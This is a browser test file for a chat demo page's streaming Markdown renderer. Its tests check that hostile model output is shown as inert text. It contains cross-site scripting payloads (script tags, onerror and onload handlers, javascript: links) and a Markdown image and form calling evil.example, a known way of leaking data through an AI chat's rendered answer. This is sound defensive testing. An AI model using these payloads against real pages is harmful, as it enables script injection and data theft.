// The Markdown of a model on the demo page: it is rendered while it streams, and hostile text is shown but never run.

import { build } from 'esbuild';
import type { Request } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { chunk, streamHeaders } from '../server/support/upstream.js';
import { httpServer, type LocalServer } from '../../support/local-server.mjs';
import { ChatPage, withClipboard } from './support/chat-page.js';
import { useChromium } from '../../browser/support/chromium.js';
import { useDemo } from './support/demo.js';

let markdown = '';
/** Whether the stream stays open after the text. */
let isEndless = false;
let model: LocalServer | undefined;

const { openSharedPage } = useChromium();
const demo = useDemo(async () => {
  model = await httpServer((request, response) => {
    request.resume();
    response.writeHead(200, streamHeaders);
    // Three characters per chunk, so that every mark is split somewhere. A long text is sent in 1,000 chunks.
    const length = Math.max(3, Math.ceil(markdown.length / 1000));
    for (let start = 0; start < markdown.length; start += length) {
      response.write(chunk(markdown.slice(start, start + length)));
    }
    if (!isEndless) response.end(chunk('', 'stop') + 'data: [DONE]\n\n');
  }).listen();
  return { env: { OPENAI_BASE_URL: `${model.url}/v1` } };
});
afterAll(() => model?.close());

let shared: ChatPage | undefined;

/** Shows the text as an answer, in a new chat. All tests of this file share one page. */
async function render(text: string): Promise<ChatPage> {
  markdown = text;
  shared ??= await ChatPage.open(await openSharedPage(withClipboard), demo.url);
  isEndless = false;
  await shared.newChat.click();
  await shared.ask('Show me');
  await shared.waitForStatus(/^Done$/);
  return shared;
}

describe('hostile text', () => {
  it.each([
    '<script>document.title = "owned"</script>',
    '<img src=x onerror="document.title=\'owned\'">',
    'Text <svg onload="document.title=\'owned\'"></svg> text',
    '<iframe srcdoc="<script>parent.document.title=\'owned\'</script>"></iframe>',
    '- <details open ontoggle="document.title=\'owned\'">x</details>',
    '| a |\n| --- |\n| <img src=x onerror="document.title=\'owned\'"> |',
    '```html\n<img src=x onerror="document.title=\'owned\'">\n```',
    '<style>body { display: none }</style>',
    '<form action="https://evil.example"><input name="q"></form>',
  ])('is shown as text: %s', async (hostile) => {
    const chat = await render(`Before.\n\n${hostile}\n\nAfter.`);

    expect(await chat.page.title()).toBe('post-event-source chat');
    expect(
      await chat.answers.locator('script, img, svg:not(.icon), iframe, style, form').count(),
    ).toBe(0);
    expect(
      await chat.answers.evaluate((answer) =>
        [...answer.querySelectorAll('*')].flatMap(({ attributes }) =>
          [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
        ),
      ),
    ).toEqual([]);
    expect(await chat.answers.textContent()).toContain(/<\w+/.exec(hostile)?.[0]);
    await chat.answers.getByText('After.').waitFor();
  });

  it('stays text in the language of a code block', async () => {
    const language = "\"><img/src=x/onerror=document.title='owned'>";

    const chat = await render(`\`\`\`${language}\ncode\n\`\`\``);

    expect(await chat.answers.locator('img').count()).toBe(0);
    expect(await chat.answers.locator('[data-language]').getAttribute('data-language')).toBe(
      language,
    );
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '/api/info',
  ])('is not linked to %s', async (address) => {
    const chat = await render(`[click me](${address}) and <${address}>`);

    expect(await chat.answers.locator('a').count()).toBe(0);
    await chat.answers.getByText('click me').waitFor();
  });

  it('loads nothing from other sites', async () => {
    const { page } = await render('Nothing yet.');
    const foreign: string[] = [];
    const note = (request: Request) => {
      if (!request.url().startsWith(demo.url)) foreign.push(request.url());
    };
    page.on('request', note);

    const chat = await render('![secret](https://evil.example/?q=words) ![](//evil.example/x.png)');
    page.off('request', note);

    expect(foreign).toEqual([]);
    const link = chat.answers.getByRole('link', { name: 'secret' });
    expect(await link.getAttribute('href')).toBe('https://evil.example/?q=words');
  });

  it('opens links in a new tab without an opener', async () => {
    const chat = await render('See [the standard](https://html.spec.whatwg.org/).');

    const link = chat.answers.getByRole('link', { name: 'the standard' });
    expect(await link.getAttribute('target')).toBe('_blank');
    expect(await link.getAttribute('rel')).toContain('noopener');
  });
});

describe('text that is expensive to parse', () => {
  const texts: [string, string][] = [
    ['5,000 quotations', '>'.repeat(5000)],
    ['5,000 quotations with spaces', `${'> '.repeat(5000)}end`],
    ['2,500 lists in one line', `${'- '.repeat(2500)}end`],
    [
      'nested lists',
      Array.from({ length: 120 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
    ],
    ['250,000 brackets', '['.repeat(250_000)],
    ['50,000 stars', '*a '.repeat(50_000)],
    ['100,000 backticks', '`a``b'.repeat(20_000)],
    ['a table of 20,000 columns', `${'|a'.repeat(20_000)}|\n${'|-'.repeat(20_000)}|\n`],
    ['one line of 200,000 words', 'word '.repeat(200_000)],
    ['a code block without end', `\`\`\`js\n${'let a = 1;\n'.repeat(10_000)}`],
  ];

  it.each(texts)('%s: arrives whole, and Stop works', async (_name, text) => {
    const chat = await render(text);
    expect(await chat.copyAnswer()).toBe(text);

    isEndless = true;
    await chat.ask('Show me');
    await chat.waitForStatus(/^Streaming/);
    await chat.stop.click();
    await chat.waitForStatus(/^Stopped$/);
  });
});

describe('good Markdown', () => {
  it('becomes headings, lists, tables, quotations and code', async () => {
    const chat = await render(
      [
        '# Title',
        'Some **bold**, *soft*, ~~gone~~ and `code`.',
        '1. one\n2. two\n   - nested',
        '> quoted',
        '| Left | Right |\n| :--- | ---: |\n| 茶 | 🍵 |',
        '- [x] done\n- [ ] open',
        '```ts\nconst answer: number = 42;\n```',
      ].join('\n\n'),
    );
    const { answers } = chat;

    await answers.getByRole('heading', { name: 'Title' }).waitFor();
    expect(await answers.locator('strong').textContent()).toBe('bold');
    expect(await answers.getByRole('listitem').count()).toBe(5);
    expect(await answers.getByRole('blockquote').textContent()).toContain('quoted');
    await answers.getByRole('cell', { name: '🍵' }).waitFor();
    expect(await answers.getByText('☑').count()).toBe(1);
    expect(await answers.locator('.hljs-keyword').first().textContent()).toBe('const');
    expect(await answers.locator('figure').textContent()).toBe('const answer: number = 42;');
  });

  it('copies only the code of a block', async () => {
    const chat = await render('Run this:\n\n```bash\necho "hello" | cat\n```\n');

    await chat.answers.getByRole('button', { name: 'Copy code' }).click();
    await chat.page.getByRole('button', { name: 'Copied' }).waitFor();

    expect(await chat.page.evaluate(() => navigator.clipboard.readText())).toBe(
      'echo "hello" | cat',
    );
  });

  it.each([
    ['Windows line ends', 'One\r\n\r\nTwo\r\n\r\nThree\r\n\r\n- a\r\n- b\r\n\r\nFour'],
    [
      'link definitions between paragraphs',
      'See [it].\n\n[it]: https://example.com\n\nTwo\n\nThree\n\nFour',
    ],
    ['a list that goes on after code', '1. a\n\n   ```\n   x\n   ```\n\n2. b\n\nc\n\nd\n\ne'],
  ])('looks the same streamed as rendered at once: %s', async (_name, text) => {
    const { page } = await render('Nothing yet.');

    const drawn = await page.evaluate<Drawn>(await drawBothWays(text));

    expect(drawn.finished).toBe(drawn.atOnce);
    expect(drawn.growing).toBe(drawn.words);
  });

  it('hides a table until its second row is complete', async () => {
    const { page } = await render('Nothing yet.');
    const text = 'Before.\n\n| Left | Right |\n| :--- | ---: |\n| a | b |\n\nAfter.';

    const drawn = await page.evaluate<Drawn>(await drawBothWays(text));

    expect(drawn.steps.filter((words) => words.includes('|'))).toEqual([]);
    expect(drawn.words).toContain('Left');
  });
});

interface Drawn {
  atOnce: string;
  finished: string;
  growing: string;
  words: string;
  /** The words after each character. */
  steps: string[];
}

/** A script that renders the text twice: one more character each time, and all at once. */
async function drawBothWays(text: string): Promise<string> {
  const { outputFiles } = await build({
    entryPoints: ['demo/page/src/markdown/streaming-markdown.ts'],
    bundle: true,
    write: false,
    format: 'iife',
    globalName: 'markdown',
  });
  return `(() => {
    ${outputFiles[0]?.text ?? ''}
    const text = ${JSON.stringify(text)};
    const [whole, parts] = [document.createElement('div'), document.createElement('div')];
    new markdown.StreamingMarkdown(whole).finish(text);
    const streaming = new markdown.StreamingMarkdown(parts);
    const wordsOf = (node) => node.textContent.replace(/[\\s[\\]]/g, '');
    const steps = [...text].map((_, index) => {
      streaming.update(text.slice(0, index + 1));
      return wordsOf(parts);
    });
    const growing = wordsOf(parts);
    streaming.finish(text);
    return { atOnce: whole.innerHTML, finished: parts.innerHTML, growing, steps, words: wordsOf(whole) };
  })()`;
}
